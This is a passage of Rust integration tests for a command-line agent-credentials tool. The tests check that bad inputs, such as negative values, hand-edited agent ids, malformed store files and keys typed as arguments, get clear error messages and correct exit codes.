        "{}",
        second.stderr
    );
    for run in [&first, &second] {
        assert!(!run.stderr.contains(r#""code":"notice""#), "{}", run.stderr);
        assert!(
            !run.stderr.contains(r#""code":"warning""#),
            "{}",
            run.stderr
        );
    }
}

// ---- the rest of the report's bad-input table ----

#[test]
fn hyphen_values_get_the_values_own_message_not_claps_unexpected_argument() {
    let home = Home::new();
    home.run(&["--sandbox", "register", "fluxa", "--name", "hyphen-bot"])
        .ok();
    home.run(&["token", "--min-valid", "-5m"])
        .code(2)
        .mentions(&["durations cannot be negative"]);
    let run = home
        .run(&[
            "--sandbox",
            "--profile",
            "n14",
            "register",
            "proxy",
            "--external-id",
            "x4",
            "--user",
            "user_sandbox_bob",
            "--name",
            "X",
            "--max-cards",
            "-1",
        ])
        .code(2);
    assert!(
        !run.stderr.contains("unexpected argument"),
        "{}",
        run.stderr
    );
    run.mentions(&["-1 is not in 0.."]);
    home.run(&[
        "--sandbox",
        "--profile",
        "-dash",
        "register",
        "fluxa",
        "--name",
        "xyz",
    ])
    .code(2)
    .mentions(&["'-dash' is not a valid profile name"]);
}

#[test]
fn a_hand_edited_agent_id_or_a_data_dir_that_is_a_file_is_named_as_local() {
    let home = Home::new();
    home.run(&["--sandbox", "register", "fluxa", "--name", "cfg-bot"])
        .ok();
    // The profile's record: its own file (profiles/NAME.toml) beside config.toml.
    let config = home.path().join("profiles/fluxa.toml");
    let text = std::fs::read_to_string(&config).unwrap();
    let id = home.run(&["--json", "profiles", "show"]).ok().json()["agent_id"]
        .as_str()
        .unwrap()
        .to_owned();
    for bad in ["", "../../../_sandbox/faults"] {
        std::fs::write(&config, text.replace(&id, bad)).unwrap();
        home.run(&["status"])
            .code(2)
            .mentions(&["agent id recorded in profile 'fluxa'", "config file"]);
    }
    std::fs::write(&config, &text).unwrap();

    // A real profile: its secrets are in the file store under data/.
    let server = Server::start();
    let mut home = Home::new();
    home.use_server(&server);
    home.run(&["register", "fluxra", "--name", "data-bot"]).ok();
    let data = home.path().join("data");
    std::fs::remove_dir_all(&data).unwrap();
    std::fs::write(&data, "").unwrap();
    let run = home.run(&["token"]).code(7);
    assert!(!run.stderr.contains("chmod 700"), "{}", run.stderr);
    run.mentions(&["is a regular file, not a directory", "mv "]);
}

#[test]
fn sandbox_serve_refuses_a_state_it_cannot_write_before_saying_it_listens() {
    let home = Home::new();
    let run = run_within(
        &home,
        &[
            "sandbox",
            "serve",
            "--port",
            "0",
            "--state",
            "/proc/nope/state.json",
        ],
        10,
    );
    assert_eq!(run.code, 2, "{}", run.all());
    assert!(!run.all().contains("listening"), "{}", run.all());
}

#[test]
fn sandbox_serve_in_a_new_home_makes_its_data_directory() {
    use std::io::BufRead;
    use std::os::unix::fs::PermissionsExt;
    let home = Home::new();
    let data = home.path().join("data");
    assert!(!data.exists());
    let mut child = home
        .command(&["sandbox", "serve", "--port", "0"])
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = String::new();
    std::io::BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut first)
        .unwrap();
    let _ = child.kill();
    let out = child.wait_with_output().unwrap();
    assert!(
        first.contains("http://127.0.0.1:"),
        "it serves: {first:?} {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mode = std::fs::metadata(&data).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o700, "{mode:o}");
}

#[test]
fn a_zero_limit_and_a_card_above_the_limit_are_accepted_with_a_warning() {
    let server = Server::start();
    let home = proxy_home(&server, "proxy", "ux-zero", &["--spending-limit", "500"]);
    home.run(&["limits", "set", "--spending-limit", "0"])
        .ok()
        .mentions(&["warning:", "can spend nothing"]);
    let json = home
        .run(&[
            "--json",
            "cards",
            "create",
            "--purpose",
            "x",
            "--max-amount",
            "1000000",
        ])
        .ok();
    assert!(
        json.stderr.contains(r#""code":"card_above_limit""#),
        "{}",
        json.stderr
    );
}

#[test]
fn partial_answers_made_clear() {
    let mut home = Home::new();
    home.set("AGENTCRED_STORE", "file");
    home.run(&["--sandbox", "register", "fluxra", "--name", "clear-bot"])
        .ok();
    // AGENTCRED_HTTP_TIMEOUT: 0 and a huge value say what is wrong with them.
    home.set("AGENTCRED_HTTP_TIMEOUT", "0");
    home.run(&["refresh"])
        .code(2)
        .mentions(&["must be at least 1 second"]);
    home.set("AGENTCRED_HTTP_TIMEOUT", "99999999999999999999");
    home.run(&["refresh"])
        .code(2)
        .mentions(&["more than a day"]);
    home.env.retain(|(k, _)| k != "AGENTCRED_HTTP_TIMEOUT");
    // An empty key id is refused before any request.
    home.run(&["keys", "revoke", ""])
        .code(2)
        .mentions(&["the key id is empty"]);
    // A refused connection cannot have reached the service: the hint says so.
    let mut offline = Home::new();
    offline
        .set("AGENTCRED_STORE", "file")
        .set("AGENTCRED_FLUXRA_URL", "http://127.0.0.1:1/fluxra");
    offline
        .run_offline(&["register", "fluxra", "--name", "refused-bot"])
        .code(6)
        .mentions(&["nothing reached the service"]);
    // A stored login key that an environment variable overrides is said to be overridden.
    home.set("PROXY_API_KEY", "lk_dev_other");
    home.run_with_stdin(
        &["--sandbox", "login", "proxy", "--no-verify"],
        "lk_dev_sandbox\n",
    )
    .ok()
    .mentions(&["PROXY_API_KEY is set", "wins over the key just stored"]);
}

#[test]
fn mcp_request_paths_get_a_hint() {
    let home = Home::new();
    home.run(&["--sandbox", "register", "fluxra", "--name", "path-bot"])
        .ok();
    let mut mcp = Mcp::start(&home, &["mcp"]);
    let result = mcp.call(
        1,
        "request",
        serde_json::json!({"path": "api/api/agents/me"}),
        20,
    );
    let message = result["structuredContent"]["error"]["message"]
        .as_str()
        .unwrap();
    assert!(message.contains("must start with /"), "{result}");
    let result = mcp.call(
        2,
        "request",
        serde_json::json!({"path": "/api/api/agents/me?x=1"}),
        20,
    );
    let message = result["structuredContent"]["error"]["message"]
        .as_str()
        .unwrap();
    assert!(message.contains("`query` argument"), "{result}");
}

#[test]
fn a_missing_selected_profile_says_where_its_name_came_from() {
    let mut home = Home::new();
    home.run(&["--sandbox", "register", "fluxra", "--name", "where-bot"])
        .ok();
    home.set("AGENTCRED_PROFILE", "ghost");
    home.run(&["token"])
        .code(3)
        .mentions(&["'ghost' comes from AGENTCRED_PROFILE"]);
    home.env.retain(|(k, _)| k != "AGENTCRED_PROFILE");
    let config = home.path().join("config.toml");
    let text = std::fs::read_to_string(&config).unwrap();
    std::fs::write(
        &config,
        text.replace(r#"current = "fluxra""#, r#"current = "ghost""#),
    )
    .unwrap();
    home.run(&["token"]).code(3).mentions(&[
        "comes from the config file's `current`",
        "profiles use NAME",
    ]);
}

#[test]
fn a_store_file_with_a_byte_order_mark_says_so() {
    let home = Home::new();
    home.run(&["--sandbox", "register", "fluxra", "--name", "bom-bot"])
        .ok();
    let file = home.secrets_file("fluxra");
    let mut bytes = vec![0xEF, 0xBB, 0xBF];
    bytes.extend(std::fs::read(&file).unwrap());
    std::fs::write(&file, &bytes).unwrap();
    home.run(&["token"])
        .code(7)
        .mentions(&["byte-order mark", "left untouched"]);
    assert_eq!(
        std::fs::read(&file).unwrap(),
        bytes,
        "nothing was rewritten"
    );
}

#[test]
fn a_piped_key_id_without_its_secret_says_what_is_missing() {
    let mut home = Home::new();
    home.set("AGENTCRED_STORE", "file");
    home.run_with_stdin(&["--sandbox", "login", "authpi"], "key_sandbox\n")
        .code(2)
        .mentions(&["key id was read from stdin", "no key secret followed it"]);
}

#[test]
fn a_key_typed_as_an_argument_is_refused_without_being_echoed() {
    let mut home = Home::new();
    home.set("AGENTCRED_STORE", "file");
    let run = home
        .run(&[
            "--sandbox",
            "login",
            "proxy",
            "lk_dev_sandbox_typed_in_argv",
        ])
        .code(2);
    run.mentions(&["given as an argument", "pipe it on stdin"]);
    assert!(!run.all().contains("typed_in_argv"), "{}", run.all());
    let json = home
        .run(&[
            "--json",
            "--sandbox",
            "login",
            "proxy",
            "lk_dev_sandbox_typed_in_argv",
        ])
        .code(2);
    assert!(!json.all().contains("typed_in_argv"), "{}", json.all());
    assert!(!home.path().join("data/secrets").exists(), "nothing stored");
}
